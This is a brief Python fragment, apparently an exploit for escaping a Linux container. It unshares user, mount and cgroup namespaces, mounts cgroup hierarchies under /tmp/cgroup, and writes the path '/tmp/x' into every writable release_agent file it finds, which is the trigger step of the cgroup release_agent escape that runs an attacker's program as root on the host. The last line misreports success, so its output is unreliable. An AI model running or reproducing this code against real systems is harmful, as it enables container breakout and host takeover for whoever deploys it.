say("user namespace", call("unshare", 0x10000000 | 0x20000 | 0x2000000))
os.mkdir("/tmp/cgroup")
for kind in "cgroup", "rdma":
    say(kind, call("mount", memory(b"cgroup"), memory(b"/tmp/cgroup"), memory(b"cgroup"), 0, memory(kind.encode())))
agents = [folder + "/" + name for folder, _, names in os.walk("/sys/fs/cgroup") for name in names if name == "release_agent"]
for agent in agents:
    try:
        os.write(os.open(agent, os.O_WRONLY), b"/tmp/x")
        print("wrote", agent)
    except OSError:
        pass
print("release_agent:", "not writable" if agents else "none")
